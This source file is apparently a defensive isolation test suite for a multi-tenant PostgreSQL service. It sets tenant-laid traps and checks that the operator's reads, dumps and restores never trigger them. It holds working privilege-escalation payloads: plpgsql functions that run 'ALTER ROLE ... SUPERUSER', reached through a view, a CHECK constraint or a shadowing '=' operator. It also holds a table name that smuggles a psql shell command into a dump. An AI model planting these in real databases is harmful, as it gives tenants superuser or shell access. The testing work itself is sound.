"""Attacks 41 to 44 and 47: a tenant leaves something in its tables, and somebody with more rights touches it.

Whoever reads, replicates, dumps or restores what a tenant made runs the tenant's code with its own rights. So Paybill
never does any of it as its administrator; each attack here lays the trap and then does what Paybill does.
"""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Final

import psycopg
from psycopg.sql import SQL, Identifier

from paybill.backups import programs, tools
from paybill.backups.programs import Login
from paybill.backups.scratch import scratch
from paybill.databases.credentials import new_password
from paybill.databases.fingerprints import fingerprints
from paybill.databases.job_login import close_login, of_tenant, open_login
from paybill.databases.observation import observe
from paybill.databases.tenants import ensure
from paybill.databases.usage import usage
from paybill.desired import sql_names as names
from paybill.isolation.attempts import words
from paybill.isolation.canaries import Canary
from paybill.isolation.findings import findings
from paybill.isolation.ground import Attempt, Ground, powers, session
from paybill.isolation.results import Result

Deed = Callable[[Canary], Awaitable[None]]
SECONDS: Final = 60.0
_CLIMB: Final = (
    "CREATE FUNCTION {schema}.climb() RETURNS text LANGUAGE plpgsql AS $$ BEGIN"
    " BEGIN SET ROLE NONE; EXECUTE 'ALTER ROLE {login} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;"
    " RETURN 'x'; END $$"
)
_EQUALS: Final = (
    "CREATE FUNCTION {schema}.climbs(text, text) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN"
    " BEGIN EXECUTE 'ALTER ROLE {login} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END; RETURN true; END $$;"
    " CREATE OPERATOR {schema}.= (LEFTARG = text, RIGHTARG = text, FUNCTION = {schema}.climbs)"
)
_GONE: Final = "DROP TABLE IF EXISTS trap CASCADE; DROP VIEW IF EXISTS bait; DROP FUNCTION IF EXISTS climb() CASCADE"


async def read(canary: Canary) -> None:
    """All that Paybill reads of a tenant: catalogs as its administrator, rows as a login for one job."""
    await observe(canary.server, canary.pool, [canary.id])
    await usage(canary.server, canary.pool, only=frozenset({canary.id}))
    login, group = of_tenant(canary.id)
    password = new_password()
    async with canary.server.session(canary.pool.name) as admin:
        await findings(admin, canary.pool)
        await fingerprints(admin, canary.server.traits, canary.pool)
        async with admin.transaction():
            await open_login(admin, login, group, canary.desired.mark, password)
    try:
        async with canary.server.login(canary.pool.name, login, password) as job:
            await job.execute(SQL("SELECT count(*) FROM {}").format(Identifier(canary.desired.schema, "bait")))
    finally:
        async with canary.server.session(canary.pool.name) as admin, admin.transaction():
            await close_login(admin, login, group)


async def replace_table(ground: Ground, *, reads: Deed = read) -> Result:
    """41: a view in place of a table, over a function that makes its owner a superuser, and somebody counts rows."""
    name, trap = "view-in-place-of-table", "CREATE VIEW {schema}.bait AS SELECT {schema}.climb() AS id"
    return await _trapped(ground, 41, name, (_CLIMB, trap, "GRANT SELECT ON {schema}.bait TO {group}"), reads)


async def replace_operator(ground: Ground, *, reads: Deed | None = None) -> Result:
    """42: an ``=`` of one's own before that of Postgres, in a database whose search_path leads to it."""
    number, name, attacker = 42, "operator-of-ones-own", ground.scene.attacker
    database, schema = Identifier(attacker.pool.name), Identifier(attacker.desired.schema)

    async def looks(canary: Canary) -> None:
        await canary.server.forget(canary.pool.name)  # what is open has read the setting of before
        await observe(canary.server, canary.pool, [canary.id])
        await usage(canary.server, canary.pool, only=frozenset({canary.id}))

    admin = ground.scene.admin
    # No tenant may set this (attack 26): even if somebody else did, it must not matter.
    await admin.execute(SQL("ALTER DATABASE {} SET search_path = {}, pg_catalog").format(database, schema))
    try:
        return await _trapped(ground, number, name, (_EQUALS,), reads or looks)
    finally:
        await admin.execute(SQL("ALTER DATABASE {} RESET search_path").format(database))


async def wait_at_the_target(ground: Ground, *, closes: bool = True) -> Result:
    """43: a trigger ENABLE ALWAYS where a move is copying to: what applies the copy would run it."""
    number, name, attacker = 43, "trigger-on-move-target", ground.scene.attacker
    table, kind = (
        (f"{attacker.desired.schema}.notes", "mig_a") if ground.scene.level != "Rows" else (ground.table, "app_a")
    )
    if closes:
        await ensure(attacker.server, attacker.pool, replace(attacker.desired, access="None"))
    try:
        async with session(attacker, kind) as opened, opened.transaction() as alone:
            await opened.execute(
                f"CREATE TRIGGER trap BEFORE INSERT ON {table} FOR EACH ROW EXECUTE FUNCTION"
                f" suppress_redundant_updates_trigger(); ALTER TABLE {table} ENABLE ALWAYS TRIGGER trap".encode()
            )
            raise psycopg.Rollback(alone)
    except (psycopg.OperationalError, psycopg.errors.InsufficientPrivilege) as error:
        return ground.ended(number, name, "denied", words(error))
    finally:
        await ensure(attacker.server, attacker.pool, attacker.desired)
    return ground.ended(number, name, "succeeded", "the trap stands before the first row arrives")


@contextlib.asynccontextmanager
async def _own_login(canary: Canary) -> AsyncIterator[Login]:
    until = datetime.now(UTC) + timedelta(minutes=10)
    async with scratch(canary.server, f"restore of {canary.id}", (), until=until) as login:
        yield login


async def restore_trap(
    ground: Ground, *, into: Callable[[Canary], contextlib.AbstractAsyncContextManager[Login]] = _own_login
) -> Result:
    """44: a check by a function that makes its owner a superuser, in a backup that somebody restores."""

    async def restored(canary: Canary) -> None:
        client = await tools.for_server(canary.server.traits.version)
        archive = b"".join([piece async for piece in _dumped(canary, client, "--format=custom")])
        async with into(canary) as login:
            argv = [
                client.program("pg_restore"), "--no-password", "--no-owner", "--no-privileges", "--exit-on-error",
                f"--dbname={login.database}",
            ]  # fmt: skip
            await programs.fed(argv, login.environment(), SECONDS, programs.once(archive))

    trap = (
        _CLIMB,
        "CREATE TABLE {schema}.trap (body text CHECK ({schema}.climb() IS NOT NULL))",
        "INSERT INTO {schema}.trap VALUES ('x')",
    )
    return await _trapped(ground, 44, "trap-in-a-backup", trap, restored)


async def command_in_a_dump(ground: Ground, *, form: str = "--format=custom") -> Result:
    """47: a table's name that is a command to psql, in a dump that is text for psql."""
    number, name, attacker = 47, "psql-command-in-a-dump", ground.scene.attacker
    trap = '"x\n\\! touch /tmp/paybill-was-here\n--"'
    schema = attacker.desired.schema
    if ground.scene.level == "Rows":
        async with session(attacker) as opened:
            try:
                await opened.execute(f"CREATE TABLE app.{trap} ()".encode())
            except psycopg.errors.InsufficientPrivilege as error:
                return ground.ended(number, name, "denied", words(error))
    async with session(attacker, "mig_a") as opened:
        await opened.execute(f"CREATE TABLE {schema}.{trap} ()".encode())
        try:
            client = await tools.for_server(attacker.server.traits.version)
            archive = b"".join([piece async for piece in _dumped(attacker, client, form)])
        finally:
            await opened.execute(f"DROP TABLE {schema}.{trap}".encode())
    if archive.startswith(b"PGDMP"):
        return ground.ended(number, name, "denied", "the dump is an archive for pg_restore: psql never reads it")
    return ground.ended(number, name, "succeeded", "the dump is text, in which psql looks for commands")


async def _trapped(ground: Ground, number: int, name: str, trap: tuple[str, ...], deed: Deed) -> Result:
    """Lay a trap as the owner of a schema, do the deed, and see who is a superuser by then."""
    attacker = ground.scene.attacker
    shared = ground.scene.level == "Rows"
    names_ = {
        "schema": names.CANARY_SCHEMA if shared else attacker.desired.schema,
        "login": attacker.login("app_a"),
        "group": names.role(attacker.id, "rw"),
    }
    async with session(attacker, "app_a" if shared else "mig_a") as owner:
        try:
            for statement in trap:
                await owner.execute(statement.format(**names_).encode())
        except psycopg.errors.InsufficientPrivilege as error:
            return ground.ended(number, name, "denied", words(error))
        try:
            await deed(attacker)
            if await powers(ground):
                return ground.ended(number, name, "succeeded", "the attacker was made a superuser")
        finally:
            await owner.execute(_GONE.encode())
            await owner.execute(f"DROP FUNCTION IF EXISTS {names_['schema']}.climbs(text, text) CASCADE".encode())
    return ground.ended(number, name, "denied", "the trap sprang with the tenant's own rights, or not at all")


async def _dumped(canary: Canary, client: tools.Tools, form: str) -> AsyncIterator[bytes]:
    user = canary.login("mig_a")
    login = Login(canary.server.address(), canary.pool.name, user, canary.passwords[user])
    argv = [client.program("pg_dump"), form, "--no-password", f"--schema={canary.desired.schema}"]
    async for piece in programs.output(argv, login.environment(), SECONDS):
        yield piece


ON_OPERATOR: Final[tuple[Attempt, ...]] = (
    replace_table, replace_operator, wait_at_the_target, restore_trap, command_in_a_dump,
)  # fmt: skip
